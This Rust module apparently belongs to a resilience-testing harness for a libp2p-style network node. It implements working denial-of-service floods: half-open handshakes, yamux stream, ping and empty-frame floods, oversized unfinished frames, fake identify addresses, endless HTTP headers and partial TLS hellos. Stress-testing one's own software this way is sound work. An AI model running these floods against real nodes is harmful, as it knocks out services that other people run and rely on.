//! The attackers. Each goes on until it is told that it is over; when the node ends its connection
//! it makes another.

use std::collections::VecDeque;
use std::io::{self, Write as _};
use std::net::{Shutdown, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};
use std::thread;
use std::time::Duration;

use basalt_net::kad::Message;
use basalt_net::yamux::{Flags, Kind};
use basalt_net::{identify, particle, ping, prefixed, varint};

use crate::place::Place;
use crate::raw::Client;
use crate::wire::{data, header, keypair, line, proposal, syn};

/// An attack on a node, until the flag is set.
pub(crate) type Flood = fn(Place, &AtomicBool);

/// More than a node sets up at a time.
const HALF_OPEN: usize = 1_500;
/// Connections that come and go: each takes a port of this machine for a minute.
const CONNECTS: usize = 5_000;
/// What is sent of frames that are never finished, in bytes.
const UNFINISHED: usize = 32 << 20;
/// The network that the node is in unless its manifest says otherwise.
const KAD: &str = "/fluence/kad/dar/1.0.0";

/// Identities of attackers; each connection has its own.
static NEXT: AtomicU32 = AtomicU32::new(1_000);

/// Works on one connection after the other: begins each, then goes on until the node ends it.
fn each_connection<S>(
    place: Place,
    over: &AtomicBool,
    begin: impl Fn(&mut Client) -> io::Result<S>,
    mut work: impl FnMut(&mut Client, &mut S) -> io::Result<()>,
) {
    while !over.load(Ordering::Relaxed) {
        let index = NEXT.fetch_add(1, Ordering::Relaxed);
        let Ok(mut client) = Client::connect(place, index) else {
            continue;
        };
        if let Ok(mut state) = begin(&mut client) {
            while !over.load(Ordering::Relaxed) && work(&mut client, &mut state).is_ok() {}
        }
        // The node may have ended it already.
        let _ = client.stream.shutdown(Shutdown::Both);
    }
}

pub(crate) fn connects(place: Place, over: &AtomicBool) {
    for _ in 0..CONNECTS {
        if over.load(Ordering::Relaxed) {
            return;
        }
        drop(place.connect());
    }
    wait(over);
}

fn wait(over: &AtomicBool) {
    while !over.load(Ordering::Relaxed) {
        thread::sleep(Duration::from_millis(5));
    }
}

pub(crate) fn half_open(place: Place, over: &AtomicBool) {
    let mut open = VecDeque::new();
    let mut attempts = 0;
    while attempts < CONNECTS && !over.load(Ordering::Relaxed) {
        attempts += 1;
        if let Ok(mut stream) = place.connect() {
            let _ = stream.write_all(b"\x13/multistream/1.0.0\n\x07/noise\n\x00\x20");
            open.push_back(stream);
        }
        if open.len() > HALF_OPEN {
            open.pop_front();
        }
    }
    wait(over);
}

pub(crate) fn garbage(place: Place, over: &AtomicBool) {
    for attempt in 0..CONNECTS {
        if over.load(Ordering::Relaxed) {
            return;
        }
        if let Ok(mut stream) = place.connect() {
            let _ = stream.write_all(&[attempt as u8 | 0x80; 600]);
        }
    }
    wait(over);
}

pub(crate) fn streams(place: Place, over: &AtomicBool) {
    each_connection(place, over, Client::forget, |client, ()| {
        let streams = client.numbers(200);
        let frames: Vec<u8> = streams.flat_map(|stream| syn(stream, b"")).collect();
        client.say(&frames)
    });
}

pub(crate) fn giants(place: Place, over: &AtomicBool) {
    let mut start = proposal(particle::PROTOCOL);
    varint::write(100 << 20, &mut start);
    let mut giant = proposal(particle::PROTOCOL);
    varint::write((100 << 20) + 1, &mut giant);
    let mut sent = 0;
    each_connection(place, over, Client::forget, |client, ()| {
        // Many that are never finished, most of a window each; then such as are too big.
        if sent < UNFINISHED {
            let stream = client.open(&start)?;
            sent += 200 << 10;
            return client.say(&data(stream, &[0x81; 200 << 10]));
        }
        let stream = client.open(&giant)?;
        client.say(&header(Kind::Data, Flags::FIN, stream, 0))
    });
}

pub(crate) fn slow_reader(place: Place, over: &AtomicBool) {
    let patience = Some(Duration::from_millis(50));
    let begin = |client: &mut Client| client.stream.set_write_timeout(patience);
    each_connection(place, over, begin, |client, ()| {
        client.open(&proposal(identify::PROTOCOL)).map(drop)
    });
}

pub(crate) fn pings(place: Place, over: &AtomicBool) {
    let begin = |client: &mut Client| {
        client.forget()?;
        client.open(&proposal(ping::PROTOCOL))
    };
    each_connection(place, over, begin, |client, stream| {
        let both = |value| {
            let whole = header(Kind::Ping, Flags::SYN, 0, value);
            [&whole[..], &data(*stream, &[7; 32])].concat()
        };
        let pings: Vec<u8> = (0..100).flat_map(both).collect();
        client.say(&pings)
    });
}

pub(crate) fn questions(place: Place, over: &AtomicBool) {
    let question = prefixed::frame(&Message::find_node(&keypair(5).peer_id()).encode());
    let bytes = [proposal(KAD), question].concat();
    each_connection(place, over, Client::forget, |client, ()| {
        let stream = client.open(&bytes)?;
        client.say(&header(Kind::Data, Flags::FIN, stream, 0))
    });
}

/// Frames of data without data, and credit of nothing.
pub(crate) fn empty_frames(place: Place, over: &AtomicBool) {
    let begin = |client: &mut Client| {
        client.forget()?;
        client.open(&proposal(particle::PROTOCOL))
    };
    each_connection(place, over, begin, |client, stream| {
        let one = [
            data(*stream, b""),
            header(Kind::WindowUpdate, Flags(0), *stream, 0).to_vec(),
        ];
        client.say(&one.concat().repeat(500))
    });
}

/// Streams for protocols that nobody speaks, under long names.
pub(crate) fn proposals(place: Place, over: &AtomicBool) {
    let none = [proposal("/none/1.0.0"), line(&"n".repeat(120)).repeat(20)].concat();
    each_connection(place, over, Client::forget, |client, ()| {
        let streams = client.numbers(50);
        let frames: Vec<u8> = streams.flat_map(|stream| syn(stream, &none)).collect();
        client.say(&frames)
    });
}

/// Other addresses each time.
pub(crate) fn identities(place: Place, over: &AtomicBool) {
    let mut number = 0;
    each_connection(place, over, Client::forget, |client, ()| {
        number += 1;
        let addresses = (0..60).map(|n| format!("/dns4/told-{number}-{n}.invalid/tcp/7"));
        let told = identify::Info {
            listen_addrs: addresses.filter_map(|text| text.parse().ok()).collect(),
            ..identify::Info::default()
        };
        let push = prefixed::frame(&told.encode());
        let stream = client.open(&[proposal(identify::PUSH_PROTOCOL), push].concat())?;
        client.say(&header(Kind::Data, Flags::FIN, stream, 0))
    });
}

/// Proves one key after the other and goes.
pub(crate) fn handshakes(place: Place, over: &AtomicBool) {
    let mut held = VecDeque::new();
    for _ in 0..CONNECTS {
        if over.load(Ordering::Relaxed) {
            return;
        }
        let index = NEXT.fetch_add(1, Ordering::Relaxed);
        held.extend(Client::connect(place, index));
        if held.len() > 200 {
            held.pop_front();
        }
    }
    wait(over);
}

/// Says something on many connections, a bit of it at a time, and holds them.
fn words(place: Place, over: &AtomicBool, first: &[u8], more: &[u8]) {
    let mut held: VecDeque<TcpStream> = VecDeque::new();
    for _ in 0..CONNECTS {
        if over.load(Ordering::Relaxed) {
            return;
        }
        if let Ok(mut stream) = place.connect() {
            let _ = stream.set_write_timeout(Some(Duration::from_millis(20)));
            if stream.write_all(first).is_ok() {
                held.push_back(stream);
            }
        }
        held.retain_mut(|stream| stream.write_all(more).is_ok());
        if held.len() > 50 {
            held.pop_front();
        }
    }
    wait(over);
}

/// Upgrades to WebSocket, and then frames without a byte.
pub(crate) fn web_frames(place: Place, over: &AtomicBool) {
    let upgrade = b"GET / HTTP/1.1\r\nHost: node\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
        Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n";
    words(place, over, upgrade, &[0x02, 0x80, 1, 2, 3, 4].repeat(200));
}

/// Heads of HTTP that never end.
pub(crate) fn web_heads(place: Place, over: &AtomicBool) {
    words(place, over, b"GET / HTTP/1.1\r\n", &b"x: y\r\n".repeat(50));
}

/// The beginning of a greeting of TLS.
pub(crate) fn tls_hellos(place: Place, over: &AtomicBool) {
    let hello = [
        &[0x16, 3, 1, 0x3f, 0xff, 1, 0, 0x3f, 0xfb, 3, 3][..],
        &[7; 400],
    ]
    .concat();
    words(place, over, &hello, &[8; 40]);
}
